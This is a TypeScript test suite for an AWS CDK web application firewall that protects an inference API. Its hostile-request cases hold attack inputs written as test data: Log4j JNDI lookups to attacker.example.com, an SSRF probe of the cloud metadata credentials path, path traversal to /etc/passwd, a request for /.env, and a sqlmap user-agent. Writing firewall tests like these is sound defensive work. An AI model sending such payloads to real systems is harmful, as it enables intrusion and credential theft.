import { App } from 'aws-cdk-lib';
import { Match, Template } from 'aws-cdk-lib/assertions';
import { describe, expect, test } from 'vitest';
import { INSPECTED_BYTES } from '../../lib/inference/firewall-rules';
import type { WebRequest } from '../support/web-acl';
import { WebAcl } from '../support/web-acl';
import { endpointOf, gatewayOf, INPUT, workload } from './world';

type Acl = { Properties: { Rules: Record<string, unknown>[]; [key: string]: unknown } };

function aclOf(routes = 2, kind = 'iam'): Acl {
  const world = workload(new App());
  const { gateway } = gatewayOf(world, {}, kind);
  for (let index = 1; index < routes; index += 1) gateway.addRoute(`other-${index}`, { target: endpointOf(world, {}, `Other${index}`), input: INPUT });
  const [acl] = Object.values(Template.fromStack(world.stack).findResources('AWS::WAFv2::WebACL')) as Acl[];
  return acl;
}

const ACL = aclOf();
const body = JSON.stringify({ prompt: 'hello' });
const good: WebRequest = { method: 'POST', path: '/v1/infer/fraud', headers: { 'content-type': 'application/json', 'user-agent': 'app/1.0', 'x-api-key': 'k' }, body };
const withHeaders = (headers: Record<string, string>): WebRequest => ({ ...good, headers: { ...good.headers, ...headers } });
const prompt = (text: string): WebRequest => ({ ...good, body: JSON.stringify({ prompt: text }) });

describe('a good request', () => {
  test.each<[string, WebRequest]>([
    ['to one route', good],
    ['to another', { ...good, path: '/v1/infer/other-1' }],
    ['in UTF-8', withHeaders({ 'content-type': 'application/json; charset=utf-8' })],
    ['in other letters', withHeaders({ 'content-type': 'Application/JSON' })],
    ['of twenty kilobytes, which the common rules would take for too large', prompt('a'.repeat(20_000))],
    ['about a script, which they would take for an attack', prompt('what does <script>alert(1)</script> do?')],
    ['about an address, which they would take for one, too', prompt('summarise http://192.0.2.1/page')],
  ])('%s passes, by the last rule', (_, request) => {
    expect(new WebAcl(ACL.Properties).decide(request)).toEqual({ action: 'ALLOW', rule: 'Registered' });
  });
});

describe('a hostile request', () => {
  test.each<[string, WebRequest, string]>([
    ['for a path that nobody registered', { ...good, path: '/v1/infer/secret' }, 'Default'],
    ['for the root', { ...good, path: '/' }, 'Default'],
    ['for a path below a route', { ...good, path: '/v1/infer/fraud/..;/admin' }, 'Default'],
    ['for a route with a slash behind it', { ...good, path: '/v1/infer/fraud/' }, 'Default'],
    ['for a route in capitals', { ...good, path: '/v1/infer/FRAUD' }, 'Default'],
    ['for a route with an escaped slash', { ...good, path: '/v1/infer%2ffraud' }, 'Default'],
    ['for another stage', { ...good, path: '/test/infer/fraud' }, 'Default'],
    ['by GET', { ...good, method: 'GET' }, 'Default'],
    ['by PUT', { ...good, method: 'PUT' }, 'Default'],
    ['by DELETE', { ...good, method: 'DELETE' }, 'Default'],
    ['by OPTIONS', { ...good, method: 'OPTIONS' }, 'Default'],
    ['by TRACE', { ...good, method: 'TRACE' }, 'Default'],
    ['in lower case', { ...good, method: 'post' }, 'Default'],
    ['as a form', withHeaders({ 'content-type': 'multipart/form-data' }), 'Default'],
    ['as XML', withHeaders({ 'content-type': 'text/xml' }), 'Default'],
    ['without a type', withHeaders({ 'content-type': '' }), 'Default'],
    ['with a query', { ...good, query: 'debug=true' }, 'QueryString'],
    ['of a megabyte', prompt('a'.repeat(1_048_576)), 'BodySize'],
    ['just above the limit', { ...good, body: 'a'.repeat(32_769) }, 'BodySize'],
    ['longer than the firewall reads', { ...good, body: 'a'.repeat(INSPECTED_BYTES + 1) }, 'BodySize'],
    ['with a look-up of Log4j', prompt('${jndi:ldap://attacker.example.com/a}'), 'AWSManagedRulesKnownBadInputsRuleSet'],
    ['with one in a header', withHeaders({ 'x-forwarded-for': '${jndi:ldap://attacker.example.com/a}' }), 'AWSManagedRulesKnownBadInputsRuleSet'],
    ['with a serialised object of Java', prompt('rO0ABXNyABFqYXZh'), 'AWSManagedRulesKnownBadInputsRuleSet'],
    ['for the file of the environment', { ...good, path: '/.env' }, 'AWSManagedRulesKnownBadInputsRuleSet'],
    ['up the tree', { ...good, path: '/v1/infer/../../etc/passwd' }, 'AWSManagedRulesCommonRuleSet'],
    ['that sends the model to the metadata service', prompt('http://169.254.169.254/latest/meta-data/iam'), 'AWSManagedRulesCommonRuleSet'],
    ['of a scanner', withHeaders({ 'user-agent': 'sqlmap/1.7' }), 'AWSManagedRulesCommonRuleSet'],
    ['of an unnamed agent', withHeaders({ 'user-agent': '' }), 'AWSManagedRulesCommonRuleSet'],
    ['from an address of bad repute', { ...good, ip: '203.0.113.66' }, 'AWSManagedRulesAmazonIpReputationList'],
  ])('%s is blocked', (_, request, rule) => {
    expect(new WebAcl(ACL.Properties).decide(request)).toEqual({ action: 'BLOCK', rule });
  });

  test('from one address is blocked after the rate, with whatever keys', () => {
    const acl = new WebAcl(ACL.Properties);
    const verdicts = Array.from({ length: 6_001 }, (_, index) => acl.decide(withHeaders({ 'x-api-key': `key-${index}` })));
    expect(verdicts.slice(0, 6_000).every(({ action }) => action === 'ALLOW')).toBe(true);
    expect(verdicts[6_000]).toEqual({ action: 'BLOCK', rule: 'RatePerAddress' });
  });

  test.each([['iam', 'x-api-key'], ['oidc', 'authorization']])('with one credential (%s) is blocked after the rate, from whatever addresses', (kind, header) => {
    const acl = new WebAcl(aclOf(1, kind).Properties);
    const verdicts = Array.from({ length: 6_001 }, (_, index) => acl.decide({ ...withHeaders({ [header]: 'stolen' }), ip: `10.0.${index >> 8}.${index & 255}` }));
    expect(verdicts.slice(0, 6_000).every(({ action }) => action === 'ALLOW')).toBe(true);
    expect(verdicts[6_000]).toEqual({ action: 'BLOCK', rule: 'RatePerCredential' });
  });
});

describe('the model sees a missing protection', () => {
  const changed = (change: (acl: Acl['Properties']) => void): WebAcl => {
    const copy = structuredClone(ACL.Properties);
    change(copy);
    return new WebAcl(copy);
  };
  const without = (name: string) => changed((acl) => { acl.Rules = acl.Rules.filter((rule) => rule.Name !== name); });

  test.each<[string, WebRequest]>([
    ['BodySize', prompt('a'.repeat(40_000))], ['QueryString', { ...good, query: 'a=b' }], ['AWSManagedRulesKnownBadInputsRuleSet', prompt('${jndi:x}')],
    ['AWSManagedRulesCommonRuleSet', withHeaders({ 'user-agent': 'sqlmap' })], ['AWSManagedRulesAmazonIpReputationList', { ...good, ip: '203.0.113.66' }],
  ])('%s: without it a hostile request passes', (name, request) => {
    expect(new WebAcl(ACL.Properties).decide(request).action).toBe('BLOCK');
    expect(without(name).decide(request).action).toBe('ALLOW');
  });

  test('with an open default an unknown path passes', () => {
    expect(changed((acl) => { acl.DefaultAction = { Allow: {} }; }).decide({ ...good, path: '/v1/infer/secret' })).toEqual({ action: 'ALLOW', rule: 'Default' });
  });

  test('without the overrides of the common rules honest requests are blocked', () => {
    const strict = changed((acl) => {
      for (const rule of acl.Rules) delete ((rule.Statement as Record<string, Record<string, unknown>>).ManagedRuleGroupStatement ?? {}).RuleActionOverrides;
    });
    expect(strict.decide(prompt('a'.repeat(20_000))).action).toBe('BLOCK');
  });

  test('with an allow in front of the others a hostile request passes: the allow is last', () => {
    const early = changed((acl) => { acl.Rules.find((rule) => rule.Name === 'Registered')!.Priority = -1; });
    expect(early.decide(prompt('${jndi:x}')).action).toBe('ALLOW');
  });
});

test('neither logs nor samples of the firewall hold bodies, queries or credentials', () => {
  expect(ACL.Properties).toMatchObject({
    DataProtectionConfig: {
      DataProtections: [
        { Action: 'SUBSTITUTION', Field: { FieldType: 'BODY' } }, { Action: 'SUBSTITUTION', Field: { FieldType: 'QUERY_STRING' } },
        { Action: 'HASH', Field: { FieldType: 'SINGLE_HEADER', FieldKeys: ['authorization', 'x-api-key'] } },
      ],
    },
    AssociationConfig: { RequestBody: { API_GATEWAY: { DefaultSizeInspectionLimit: 'KB_64' } } },
  });
  const visible = JSON.stringify(ACL.Properties).match(/"SampledRequestsEnabled":(true|false)/g);
  expect(new Set(visible)).toEqual(new Set(['"SampledRequestsEnabled":false']));
});

test('the firewall stands in front of the stage, and logs to an encrypted group', () => {
  const world = workload(new App());
  gatewayOf(world);
  const template = Template.fromStack(world.stack);
  template.hasResourceProperties('AWS::WAFv2::WebACLAssociation', { ResourceArn: { 'Fn::Join': ['', Match.arrayWith([Match.stringLikeRegexp('restapis/')])] } });
  template.hasResourceProperties('AWS::WAFv2::LoggingConfiguration', { RedactedFields: [{ SingleHeader: { Name: 'authorization' } }, { SingleHeader: { Name: 'x-api-key' } }, { QueryString: {} }] });
  template.hasResourceProperties('AWS::Logs::LogGroup', { LogGroupName: Match.stringLikeRegexp('^aws-waf-logs-'), KmsKeyId: Match.anyValue() });
});
